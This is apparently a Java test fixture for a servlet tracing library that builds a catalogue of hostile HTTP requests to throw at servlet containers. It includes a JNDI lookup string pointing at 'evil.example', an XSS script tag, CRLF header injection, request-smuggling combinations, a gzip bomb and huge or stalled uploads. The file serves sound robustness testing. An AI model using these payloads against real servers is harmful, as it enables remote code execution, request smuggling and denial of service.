// SPDX-FileCopyrightText: The TraceHub for Java authors
// SPDX-License-Identifier: MIT
package io.tracehub.servlet;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.GZIPOutputStream;

/**
 * What a client may send that is no friend.
 *
 * @param name what is hostile about it
 * @param sending how it is sent
 */
record HostileRequest(String name, Sending sending) {

  private static final int MEGA = 1024 * 1024;
  private static final String END = "Connection: close\r\n\r\n";
  private static final String HOST = "Host: localhost\r\n";

  /** Sends it. */
  @FunctionalInterface
  interface Sending {
    void to(RawClient client) throws IOException;
  }

  @Override
  public String toString() {
    return name;
  }

  static List<HostileRequest> all() {
    List<HostileRequest> all = new ArrayList<>();
    ids(all);
    headers(all);
    lines(all);
    bodies(all);
    contents(all);
    answers(all);
    return all;
  }

  private static void add(List<HostileRequest> all, String name, Sending sending) {
    all.add(new HostileRequest(name, sending));
  }

  private static void header(List<HostileRequest> all, String name, String lines) {
    add(
        all,
        name,
        client -> client.send("GET /mirror/none HTTP/1.1\r\n" + HOST + lines + "\r\n" + END));
  }

  private static void ids(List<HostileRequest> all) {
    header(all, "giant trace id", "X-Trace-ID: " + "a".repeat(6000));
    header(all, "trace id beyond the container's limit", "X-Trace-ID: " + "a".repeat(20_000));
    header(all, "script for a trace id", "X-Trace-ID: <script>alert(1)</script>");
    header(all, "look-up for a trace id", "X-Trace-ID: ${jndi:ldap://evil.example/a}");
    header(all, "trace id folded over two lines", "X-Trace-ID: abc\r\n def");
    header(all, "header injected by a trace id", "X-Trace-ID: abc\r\nSet-Cookie: a=b");
    header(all, "NUL in a trace id", "X-Trace-ID: a\0b");
    header(all, "lone CR in a trace id", "X-Trace-ID: a\rb");
    header(all, "bytes above ASCII in ids", "X-Trace-ID: \u00e9\u00ff\r\nX-Request-ID: \u00ff");
    header(all, "two trace ids", "X-Trace-ID: one\r\nX-Trace-ID: two");
    header(all, "empty ids", "X-Trace-ID:\r\ntraceparent: \r\nX-Request-ID:\t");
    header(
        all, "broken traceparent", "traceparent: 00-" + "0".repeat(32) + "-zz-" + "-".repeat(999));
  }

  private static void headers(List<HostileRequest> all) {
    header(
        all,
        "forwarding that is none",
        "X-Forwarded-Host: a b<>\r\nX-Forwarded-Proto: javascript:\r\nForwarded: host=\";;,,=\"x");
    header(all, "header without colon", "nonsense");
    header(all, "space before the colon", "X-Trace-ID : abc");
    header(all, "two hosts", "Host: other");
    header(all, "300 headers", "a: b\r\n".repeat(300) + "c: d");
    header(all, "credentials without end", "Authorization: Bearer " + "x".repeat(5000));
    header(
        all,
        "websocket",
        "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x");
    header(all, "HTTP/2 upgrade", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__");
  }

  private static void line(List<HostileRequest> all, String name, String line) {
    add(all, name, client -> client.send(line + "\r\n" + HOST + END));
  }

  private static void lines(List<HostileRequest> all) {
    line(all, "absolute URI", "GET http://other.example/mirror/none?a=b HTTP/1.1");
    line(all, "OPTIONS of all", "OPTIONS * HTTP/1.1");
    line(all, "OPTIONS", "OPTIONS /mirror/none HTTP/1.1");
    line(all, "TRACE", "TRACE /mirror/none HTTP/1.1");
    line(all, "CONNECT", "CONNECT localhost:80 HTTP/1.1");
    line(all, "HEAD", "HEAD /mirror/none HTTP/1.1");
    line(all, "unknown method", "FOO /mirror/none HTTP/1.1");
    line(all, "method of small letters", "get /mirror/none HTTP/1.1");
    line(all, "unknown version", "GET /mirror/none HTTP/9.9");
    line(all, "broken escapes in the path", "GET /mirror/none/%zz%2f..%00 HTTP/1.1");
    line(all, "parameters in the path", "GET /mirror;jsessionid=secret/none;a=b HTTP/1.1");
    line(all, "raw bytes in the query", "GET /mirror/form?a=%ff&\u00ff=%zz HTTP/1.1");
    add(all, "HTTP/1.0 without host", client -> client.send("GET /mirror/none HTTP/1.0\r\n\r\n"));
    add(all, "HTTP/0.9", client -> client.send("GET /mirror/none\r\n"));
    add(all, "preface of HTTP/2", client -> client.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
    add(
        all,
        "two requests at once",
        client ->
            client.send(
                "GET /mirror/none?1 HTTP/1.1\r\n"
                    + HOST
                    + "\r\nGET /mirror/none?2 HTTP/1.1\r\n"
                    + HOST
                    + END));
    add(
        all,
        "line ends of LF",
        client -> client.send("GET /mirror/none HTTP/1.1\nHost: a\nConnection: close\n\n"));
  }

  private static void post(List<HostileRequest> all, String name, String lines, Sending body) {
    post(all, name, "/mirror/stream", lines, body);
  }

  private static void post(
      List<HostileRequest> all, String name, String path, String lines, Sending body) {
    add(
        all,
        name,
        client -> {
          client.send("POST " + path + " HTTP/1.1\r\n" + HOST + lines + "\r\n" + END);
          body.to(client);
        });
  }

  private static void bodies(List<HostileRequest> all) {
    byte[] zeros = new byte[MEGA];
    post(
        all,
        "100 MB",
        "Content-Length: " + 100 * MEGA,
        client -> {
          for (int i = 0; i < 100; i++) {
            client.send(zeros);
          }
        });
    post(
        all,
        "20 MB in chunks, as a text",
        "/mirror/reader",
        "Content-Type: text/plain\r\nTransfer-Encoding: chunked",
        client -> {
          for (int i = 0; i < 20; i++) {
            client.send("100000\r\n");
            client.send(zeros);
            client.send("\r\n");
          }
          client.send("0\r\n\r\n");
        });
    post(
        all,
        "a byte at a time",
        "Content-Length: 20",
        client -> {
          for (int i = 0; i < 20; i++) {
            client.send("x");
          }
        });
    post(all, "upload that ends early", "Content-Length: 1000", client -> client.send("x"));
    post(all, "garbage for chunks", "Transfer-Encoding: chunked", c -> c.send("zz\r\nabc\r\n"));
    post(
        all,
        "chunk of 16 exabytes",
        "Transfer-Encoding: chunked",
        client -> client.send("FFFFFFFFFFFFFFFF\r\nabc\r\n"));
    post(all, "chunks without end", "Transfer-Encoding: chunked", c -> c.send("3\r\nabc\r\n"));
    post(
        all,
        "extension and trailer",
        "Transfer-Encoding: chunked",
        client -> client.send("3;a=\"b\"\r\nabc\r\n0\r\nX-Trace-ID: late\r\n\r\n"));
    post(
        all,
        "length and chunks",
        "Content-Length: 3\r\nTransfer-Encoding: chunked",
        client -> client.send("3\r\nabc\r\n0\r\n\r\n"));
    post(all, "two lengths", "Content-Length: 3\r\nContent-Length: 4", c -> c.send("abcd"));
    post(all, "negative length", "Content-Length: -1", client -> client.send("abc"));
    post(all, "length that is no number", "Content-Length: many", client -> client.send("abc"));
    post(all, "unknown transfer", "Transfer-Encoding: cow", client -> client.send("abc"));
    post(all, "body that nobody reads", "/mirror/none", "Content-Length: 3", c -> c.send("abc"));
    post(
        all,
        "100-continue",
        "Expect: 100-continue\r\nContent-Length: 3",
        client -> client.send("abc"));
    post(all, "unknown expectation", "Expect: money\r\nContent-Length: 3", c -> c.send("abc"));
  }

  private static void contents(List<HostileRequest> all) {
    byte[] bomb = bomb();
    post(
        all,
        "gzip bomb",
        "Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: "
            + bomb.length,
        client -> client.send(bomb));
    String form = "Content-Type: application/x-www-form-urlencoded";
    String fields = "a=%zz&=&&b=%ff&c" + "&d=1".repeat(20_000);
    post(
        all,
        "form with too many fields",
        "/mirror/form?d=0",
        form + "\r\nContent-Length: " + fields.length(),
        client -> client.send(fields));
    post(
        all,
        "form that is cut",
        "/mirror/form",
        form + "\r\nContent-Length: 99",
        c -> c.send("a=1&b"));
    post(
        all,
        "unknown charset",
        "/mirror/reader",
        "Content-Type: text/plain; charset=no-such\r\nContent-Length: 3",
        client -> client.send("abc"));
    post(
        all,
        "bytes that are no UTF-8",
        "/mirror/reader",
        "Content-Type: application/json; charset=utf-8\r\nContent-Length: 4",
        client -> client.send("\u00ff\u00fe\u00c3("));
    post(
        all,
        "multipart without end",
        "/mirror/parts",
        "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 20",
        client -> client.send("--x\r\nContent-Dispos\r\n"));
    post(
        all,
        "nesting without end",
        "Content-Type: application/json\r\nContent-Length: 50000",
        client -> client.send("[".repeat(50_000)));
  }

  private static void answers(List<HostileRequest> all) {
    line(all, "exception", "GET /fails HTTP/1.1");
    line(all, "exception when the answer is on its way", "GET /late HTTP/1.1");
    line(all, "refusal", "GET /refuses HTTP/1.1");
    line(all, "redirect", "GET /moved HTTP/1.0");
    line(all, "answer that is taken back", "GET /taken-back HTTP/1.1");
    line(all, "HEAD of an exception", "HEAD /fails HTTP/1.1");
  }

  private static byte[] bomb() {
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
      byte[] zeros = new byte[MEGA];
      for (int i = 0; i < 20; i++) {
        out.write(zeros);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return packed.toByteArray();
  }

  /** The bytes that a server answers, ours apart: but for the trace id, and the time. */
  String answerOf(Container container) throws IOException {
    String answer = "";
    // Where a server hangs up on what it has not read, its answer may be lost with it.
    for (int attempt = 0; attempt < 20; attempt++) {
      try (RawClient client = new RawClient(container.port())) {
        try {
          sending.to(client);
          client.end();
        } catch (IOException hungUp) {
          // What was answered before counts.
          answer = "";
        }
        answer = client.answer();
      }
      if (!answer.contains(RawClient.RESET)) {
        break;
      }
    }
    return answer;
  }

  /** The answer without what may differ. */
  static String comparable(String answer) {
    return answer.replaceAll("(?m)^(X-Trace-ID|Date): .*\r\n", "");
  }
}
